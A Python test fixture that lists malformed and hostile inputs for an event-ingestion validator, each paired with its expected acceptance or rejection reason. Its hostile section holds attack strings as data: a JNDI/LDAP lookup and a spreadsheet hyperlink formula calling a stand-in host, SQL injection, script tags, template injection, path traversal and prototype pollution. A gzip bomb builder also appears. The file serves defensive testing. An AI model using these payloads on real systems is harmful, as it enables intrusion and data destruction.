"""Classes of bad and strange input, each with where it must end: accepted by rule, or a reason.

`CORPUS` is data for every test that feeds the event topic, in memory or live. `make(at_ms)` gives
the record's value for a log time, so that only what the class is about is wrong with it.
"""

import gzip
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

import orjson

ACCEPTED = "accepted"
DAY_MS = 86_400_000
NATIVE_ID = "o9AgO5Kd5ggOC-bXrbNODIiE3bGY"


class Poison(NamedTuple):
    name: str
    make: Callable[[int], bytes | None]
    expected: str  # ACCEPTED or a key of dead_letters.REASONS


def good(at_ms: int, /, **changes: Any) -> dict[str, Any]:
    """A valid event, with top-level fields changed; a field set to `...` is left out."""
    fields: dict[str, Any] = {
        "id": "0f3c2a9d8e7b6c5a4f3e2d1c0b9a8f7e",
        "source": "wx:mp:wx1234567890abcdef",
        "type": "product.viewed",
        "subject": NATIVE_ID,
        "time_ms": at_ms - 1_000,
        "data": {"item_id": "sku-1001", "category": "连衣裙", "price_fen": 19_900},
    }
    return {name: value for name, value in (fields | changes).items() if value is not ...}


def _event(**changes: Any) -> Callable[[int], bytes]:
    return lambda at_ms: orjson.dumps(good(at_ms, **changes))


def _data(**data: Any) -> Callable[[int], bytes]:
    return _event(data={"item_id": "sku-1001"} | data)


def _typed(name: str, **data: Any) -> Callable[[int], bytes]:
    return _event(type=name, data=data)


def _at(offset_ms: int) -> Callable[[int], bytes]:
    return lambda at_ms: orjson.dumps(good(at_ms, time_ms=at_ms + offset_ms))


def _time(of: Callable[[int], Any]) -> Callable[[int], bytes]:
    return lambda at_ms: orjson.dumps(good(at_ms, time_ms=of(at_ms)))


def _raw(value: bytes | None) -> Callable[[int], bytes | None]:
    return lambda _: value


def _bytes(change: Callable[[bytes], bytes]) -> Callable[[int], bytes]:
    return lambda at_ms: change(orjson.dumps(good(at_ms)))


def _price(literal: bytes) -> Callable[[int], bytes]:
    return _bytes(lambda raw: raw.replace(b"19900", literal))


def _unknown(literal: bytes) -> Callable[[int], bytes]:
    return _bytes(lambda raw: raw.replace(b'"price_fen"', b'"new":' + literal + b',"price_fen"'))


def _nested(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


def _text(literal: bytes) -> Callable[[int], bytes]:
    return _bytes(lambda raw: raw.replace(b"sku-1001", literal))


def _subject(literal: bytes) -> Callable[[int], bytes]:
    return _bytes(lambda raw: raw.replace(NATIVE_ID.encode(), literal))


def _bomb(levels: int) -> bytes:
    value = b"0" * (1 << 20)
    for _ in range(levels):
        value = gzip.compress(value, mtime=0)
    return value


_NOT_JSON = (
    Poison("text that is no JSON", _raw(b"hello"), "not_json"),
    Poison("truncated in a string", _bytes(lambda raw: raw[:40]), "not_json"),
    Poison("truncated by one byte", _bytes(lambda raw: raw[:-1]), "not_json"),
    Poison("two objects in one record", _bytes(lambda raw: raw + raw), "not_json"),
    Poison("newline-delimited objects", _bytes(lambda raw: raw + b"\n" + raw), "not_json"),
    Poison("trailing comma", _bytes(lambda raw: raw[:-1] + b",}"), "not_json"),
    Poison("single quotes", _bytes(lambda raw: raw.replace(b'"', b"'")), "not_json"),
    Poison("comment", _bytes(lambda raw: b"/* c */" + raw), "not_json"),
    Poison("trailing NUL", _bytes(lambda raw: raw + b"\0"), "not_json"),
    Poison("raw control character in a string", _text(b"sku\x01"), "not_json"),
    Poison("raw newline in a string", _text(b"sku\n1"), "not_json"),
    Poison("bad escape", _text(b"sku\\x41"), "not_json"),
    Poison("lone high surrogate", _text(b"\\ud800"), "not_json"),
    Poison("lone low surrogate", _text(b"\\udc00"), "not_json"),
    Poison("reversed surrogates", _text(b"\\ude00\\ud83d"), "not_json"),
    Poison("NaN", _price(b"NaN"), "not_json"),
    Poison("Infinity", _price(b"Infinity"), "not_json"),
    Poison("minus Infinity", _price(b"-Infinity"), "not_json"),
    Poison("1e999", _price(b"1e999"), "not_json"),
    Poison("-1e999 in an unknown field", _unknown(b"-1e999"), "not_json"),
    Poison("400 digits", _price(b"9" * 400), "not_json"),
    Poison("leading zero", _price(b"0199"), "not_json"),
    Poison("leading plus", _price(b"+199"), "not_json"),
    Poison("hexadecimal number", _price(b"0x7f"), "not_json"),
    Poison("number without digits after the point", _price(b"1."), "not_json"),
    Poison("XML callback body", _raw(b"<xml><Event>subscribe</Event></xml>"), "not_json"),
    Poison("URL-encoded form", _raw(b"id=1&type=product.viewed"), "not_json"),
    Poison("quotes without end", _raw(b'"' + b'\\"' * 100_000), "not_json"),
)

_ENCODING = (
    Poison("byte order mark", _bytes(lambda raw: b"\xef\xbb\xbf" + raw), "not_utf8"),
    Poison("UTF-16", _bytes(lambda raw: raw.decode().encode("utf-16")), "not_utf8"),
    Poison("GBK text", _bytes(lambda raw: raw.decode().encode("gbk")), "not_utf8"),
    Poison("invalid byte", _text(b"sku\xff"), "not_utf8"),
    Poison("overlong encoding", _text(b"\xc0\xaf"), "not_utf8"),
    Poison("encoded surrogate", _text(b"\xed\xa0\x80"), "not_utf8"),
    Poison("cut inside a character", _text("裙".encode()[:2]), "not_utf8"),
    Poison("gzip bytes as value", _bytes(lambda raw: gzip.compress(raw, mtime=0)), "not_utf8"),
    Poison("zlib bytes as value", _bytes(zlib.compress), "not_utf8"),
    Poison("gzip bomb as value", _raw(_bomb(2)), "not_utf8"),
    Poison("Confluent wire format", _bytes(lambda raw: b"\0\0\0\0\x07" + raw), "not_json"),
    Poison("random binary", _raw(bytes(range(256))), "not_utf8"),
)

_SHAPE = (
    Poison("tombstone", _raw(None), "empty"),
    Poison("empty value", _raw(b""), "empty"),
    Poison("blank value", _raw(b" \n\t "), "empty"),
    Poison("null", _raw(b"null"), "not_an_object"),
    Poison("array of events", _bytes(lambda raw: b"[" + raw + b"]"), "not_an_object"),
    Poison("string", _raw(b'"event"'), "not_an_object"),
    Poison("number", _raw(b"42"), "not_an_object"),
    Poison("true", _raw(b"true"), "not_an_object"),
    Poison("JSON inside a string", _bytes(lambda raw: orjson.dumps(raw.decode())), "not_an_object"),
    Poison("empty object", _raw(b"{}"), "missing_field"),
    Poison("depth 16 in an unknown field", _unknown(_nested(14)), ACCEPTED),
    Poison("depth 17", _unknown(_nested(15)), "too_deep"),
    Poison("depth 1025", _unknown(_nested(1_023)), "too_deep"),
    Poison("depth 100 000", _raw(_nested(100_000)), "too_deep"),
    Poison("depth 100 000 without end", _raw(b'{"data":' * 25_000), "too_deep"),
    Poison("many brackets, none deep", _unknown(b"[" + b"[]," * 50_000 + b"[]]"), ACCEPTED),
    Poison("brackets in a string", _unknown(b'"' + b"[{" * 500 + b'"'), ACCEPTED),
    Poison("200 KB in an unknown field", _unknown(b'"' + b"x" * 200_000 + b'"'), ACCEPTED),
    Poison("1 MB", _unknown(b'"' + b"x" * 1_000_000 + b'"'), "too_large"),
    Poison("5 MB", _unknown(b'"' + b"x" * 5_000_000 + b'"'), "too_large"),
    Poison("20 MB", _unknown(b'"' + b"x" * 20_000_000 + b'"'), "too_large"),
    Poison("20 000 unknown fields", _event(**{f"k{i}": 0 for i in range(20_000)}), ACCEPTED),
    Poison("duplicate keys, the last counts", _price(b'-1,"price_fen":19900'), ACCEPTED),
    Poison("duplicate keys, the last is bad", _price(b'19900,"price_fen":-1'), "out_of_range"),
)

_NUMBERS = (
    Poison("1e308 where fen are expected", _price(b"1e308"), "wrong_type"),
    Poison("1e308 in an unknown field", _unknown(b"1e308"), ACCEPTED),
    Poison("2^63", _price(b"9223372036854775808"), "out_of_range"),
    Poison("2^64", _price(b"18446744073709551616"), "wrong_type"),
    Poison("-2^63 - 1", _price(b"-9223372036854775809"), "wrong_type"),
    Poison("2^64 in an unknown field", _unknown(b"18446744073709551616"), ACCEPTED),
    Poison("minus zero", _price(b"-0"), ACCEPTED),
    Poison("minus zero as float", _price(b"-0.0"), ACCEPTED),
    Poison("negative price", _price(b"-1"), "out_of_range"),
    Poison("price in yuan with a point", _price(b"199.99"), "wrong_type"),
    Poison("whole number as float", _price(b"19900.0"), ACCEPTED),
    Poison("number as text", _data(price_fen="19900"), ACCEPTED),
    Poison("number with a blank as text", _data(price_fen=" 19900"), "wrong_type"),
    Poison("full-width digits", _data(price_fen="１９９"), "wrong_type"),
    Poison("NaN as text", _data(price_fen="NaN"), "wrong_type"),
    Poison("5000 digits as text", _data(price_fen="9" * 5_000), "out_of_range"),
    Poison("true as a number", _data(price_fen=True), "wrong_type"),
    Poison("true as text for a number", _data(price_fen="true"), "wrong_type"),
    Poison(
        "NaN as text for a share",
        _typed("article.read", article_id="a", read_share="nan"),
        "out_of_range",
    ),
    Poison(
        "share above one", _typed("article.read", article_id="a", read_share=1.5), "out_of_range"
    ),
    Poison("true as stars", _typed("order.rated", stars=True), "wrong_type"),
    Poison("six stars", _typed("order.rated", stars=6), "out_of_range"),
    Poison("quantity zero", _typed("cart.added", item_id="a", quantity=0), "out_of_range"),
    Poison("dwell of a year", _data(dwell_ms=365 * DAY_MS), "out_of_range"),
)

_TIMES = (
    Poison("no time", _event(time_ms=...), "missing_field"),
    Poison("time null", _event(time_ms=None), "wrong_type"),
    Poison("RFC 3339 time alone", _event(time_ms=..., time="2024-11-22T07:00:00+08:00"), ACCEPTED),
    Poison(
        "RFC 3339 time without offset", _event(time_ms=..., time="2024-11-22T07:00:00"), "bad_time"
    ),
    Poison("time that is no time", _event(time_ms=..., time="yesterday"), "bad_time"),
    Poison("time in year 9999", _event(time_ms=..., time="9999-12-31T23:59:59Z"), "bad_time"),
    Poison("seconds", _time(lambda at_ms: at_ms // 1_000), "bad_time"),
    Poison("microseconds", _time(lambda at_ms: at_ms * 1_000), "bad_time"),
    Poison("nanoseconds", _time(lambda at_ms: at_ms * 1_000_000), "bad_time"),
    Poison("milliseconds as text", _time(str), ACCEPTED),
    Poison("milliseconds as float", _time(float), ACCEPTED),
    Poison("half a millisecond", _time(lambda at_ms: at_ms + 0.5), "wrong_type"),
    Poison("true as time", _event(time_ms=True), "wrong_type"),
    Poison("zero time", _event(time_ms=0), "bad_time"),
    Poison("negative time", _event(time_ms=-1), "bad_time"),
    Poison("before WeChat", _event(time_ms=1_000_000_000_000), "bad_time"),
    Poison("2^64 as time", _event(time_ms=float(2**64)), "wrong_type"),
    Poison("1e308 as time", _event(time_ms=1e308), "wrong_type"),
    Poison("six years old", _at(-6 * 365 * DAY_MS), ACCEPTED),
    Poison("four minutes ahead", _at(240_000), ACCEPTED),
    Poison("six minutes ahead", _at(360_000), "time_in_future"),
    Poison("a year ahead", _at(365 * DAY_MS), "time_in_future"),
    Poison(
        "backfill from the future",
        lambda at_ms: orjson.dumps(good(at_ms, time_ms=at_ms + DAY_MS, backfill=True)),
        "time_in_future",
    ),
    Poison("seconds as ingest time", _event(ingest_ms=1_763_798_400), "bad_time"),
)

_FIELDS = (
    Poison("no id", _event(id=...), "missing_field"),
    Poison("no source", _event(source=...), "missing_field"),
    Poison("no type", _event(type=...), "missing_field"),
    Poison("no subject", _event(subject=...), "missing_field"),
    Poison("no data where an item is needed", _event(data=...), "missing_field"),
    Poison("id null", _event(id=None), "wrong_type"),
    Poison("id empty", _event(id=""), "out_of_range"),
    Poison("id as number", _event(id=3_705_115_058_471_208_928), ACCEPTED),
    Poison("id as float", _event(id=1.5), "wrong_type"),
    Poison("id as array", _event(id=["a"]), "wrong_type"),
    Poison("type as object", _event(type={"a": 1}), "wrong_type"),
    Poison("subject as object", _event(subject={"openid": NATIVE_ID}), "wrong_type"),
    Poison("subject true", _event(subject=True), "wrong_type"),
    Poison("data as array", _event(data=[]), "wrong_type"),
    Poison("data as text", _event(data="{}"), "wrong_type"),
    Poison("category as object", _data(category={"$gt": ""}), "wrong_type"),
    Poison("category null", _data(category=None), ACCEPTED),
    Poison("tags as text", _data(tags="a,b"), "wrong_type"),
    Poison("17 tags", _data(tags=["a"] * 17), "out_of_range"),
    Poison("tag of 65 characters", _data(tags=["a" * 65]), "out_of_range"),
    Poison(
        "65 order lines",
        _typed("order.paid", order_id="o", items=[{"item_id": "a"}] * 65),
        "out_of_range",
    ),
    Poison(
        "order line without item", _typed("order.paid", order_id="o", items=[{}]), "missing_field"
    ),
    Poison("order line as number", _typed("order.paid", order_id="o", items=[1]), "wrong_type"),
    Poison("backfill as text", _event(backfill="maybe"), "wrong_type"),
    Poison("unknown version", _event(specversion="2.0"), "unsupported_version"),
    Poison("version as number", _event(specversion=1.0), "wrong_type"),
    Poison("another tenant", _event(tenant="somebody-else"), "wrong_tenant"),
    Poison("empty tenant", _event(tenant=""), "out_of_range"),
    Poison("unknown type", _event(type="galaxy.visited", data={"anything": [1]}), ACCEPTED),
    Poison("unknown fields", _event(colour="red", data={"item_id": "a", "b": {"c": 1}}), ACCEPTED),
    Poison("field in capitals", _event(data={"ITEM_ID": "a"}), "missing_field"),
)

_IDS = (
    Poison("subject empty", _event(subject=""), "bad_subject"),
    Poison("subject blank", _event(subject="   "), "bad_subject"),
    Poison("subject with a blank", _event(subject="o1 23"), "bad_subject"),
    Poison("subject with ideographic space", _event(subject="o1\u300023"), "bad_subject"),
    Poison("subject with newline", _event(subject="o123\n"), "bad_subject"),
    Poison("subject with NUL", _event(subject="o123\0"), "bad_subject"),
    Poison("subject with zero-width space", _event(subject="o1\u200b23"), "bad_subject"),
    Poison("subject with right-to-left override", _event(subject="\u202e321o"), "bad_subject"),
    Poison("subject with byte order mark", _event(subject="\ufeffo123"), "bad_subject"),
    Poison("subject of 64 KB", _event(subject="o" * 65_536), "out_of_range"),
    Poison("subject without its id", _event(subject="unionid:"), "bad_subject"),
    Poison("user id with a slash", _event(subject="user:../../etc/passwd"), "bad_subject"),
    Poison("user id empty", _event(subject="user:"), "bad_subject"),
    Poison("emoji as subject", _event(subject="\U0001f600"), ACCEPTED),
    Poison("id with NUL", _event(id="a\0b"), "bad_id"),
    Poison("id with zero-width joiner", _event(id="a\u200db"), "bad_id"),
    Poison("source with newline", _event(source="wx:mp:a\nb"), "bad_id"),
    Poison("type with right-to-left override", _event(type="product\u202e.viewed"), "bad_id"),
    Poison("id of 64 KB", _event(id="x" * 65_536), "out_of_range"),
    Poison("type of 64 KB", _event(type="x" * 65_536), "out_of_range"),
    Poison("id that holds the native id", _event(id=f"{NATIVE_ID}-17"), ACCEPTED),
    Poison("escaped native id in data", _text(b"\\u006f" + NATIVE_ID[1:].encode()), ACCEPTED),
    Poison("linked to nobody", _typed("identity.linked", other=""), "out_of_range"),
    Poison("linked to a zero-width id", _typed("identity.linked", other="o\u200b1"), "bad_subject"),
    Poison("linked to a number", _typed("identity.linked", other=12_345), ACCEPTED),
)

_HOSTILE = (
    Poison("__proto__ as a field", _unknown(b'0,"__proto__":{"admin":true}'), ACCEPTED),
    Poison("__class__ as a field", _unknown(b'0,"__class__":"os.system"'), ACCEPTED),
    Poison(
        "__proto__ as an attribute",
        _typed("user.attributes_given", attributes={"__proto__": "x", "sex": "f"}),
        ACCEPTED,
    ),
    Poison(
        "25 attributes",
        _typed("user.attributes_given", attributes={f"a{i}": "x" for i in range(25)}),
        "out_of_range",
    ),
    Poison(
        "attribute as object",
        _typed("user.attributes_given", attributes={"sex": {"f": 1}}),
        "wrong_type",
    ),
    Poison("record tag of the log", _event(record="tick", at_ms=0), ACCEPTED),
    Poison("spreadsheet formula", _data(category='=HYPERLINK("http://a.example","x")'), ACCEPTED),
    Poison("script tag", _data(category="<script>alert(1)</script>"), ACCEPTED),
    Poison("template", _data(category="{{7*7}}${7*7}{% raw %}"), ACCEPTED),
    Poison("SQL", _data(category="'; DROP TABLE users; --"), ACCEPTED),
    Poison("look-up in a logger", _data(category="${jndi:ldap://a.example/a}"), ACCEPTED),
    Poison("log injection", _data(category='a\r\nlevel=error msg="forged"'), ACCEPTED),
    Poison("terminal escape", _data(category="\x1b[2J\x1b[31mred"), ACCEPTED),
    Poison("metric label injection", _event(type='x"} 1\nup{a="'), "bad_id"),
    Poison("format string", _data(category="%s%n{0.__class__}"), ACCEPTED),
    Poison("path", _data(item_id="../../../etc/passwd"), ACCEPTED),
    Poison("zero-width text in data", _data(category="连\u200b衣\u200d裙"), ACCEPTED),
    Poison("only zero-width text where an id is needed", _data(item_id="\u200b"), "out_of_range"),
    Poison("NUL in data", _data(category="a\0b"), ACCEPTED),
    Poison("combining marks", _data(category="e" + "\u0301" * 60), ACCEPTED),
    Poison(
        "URL with a token", _typed("menu.clicked", url_no_query="https://a.example/p?t=1"), ACCEPTED
    ),
    Poison("geohash of a doorstep", _typed("location.reported", geohash="wx4g0bm6c408"), ACCEPTED),
)

CORPUS = (*_NOT_JSON, *_ENCODING, *_SHAPE, *_NUMBERS, *_TIMES, *_FIELDS, *_IDS, *_HOSTILE)
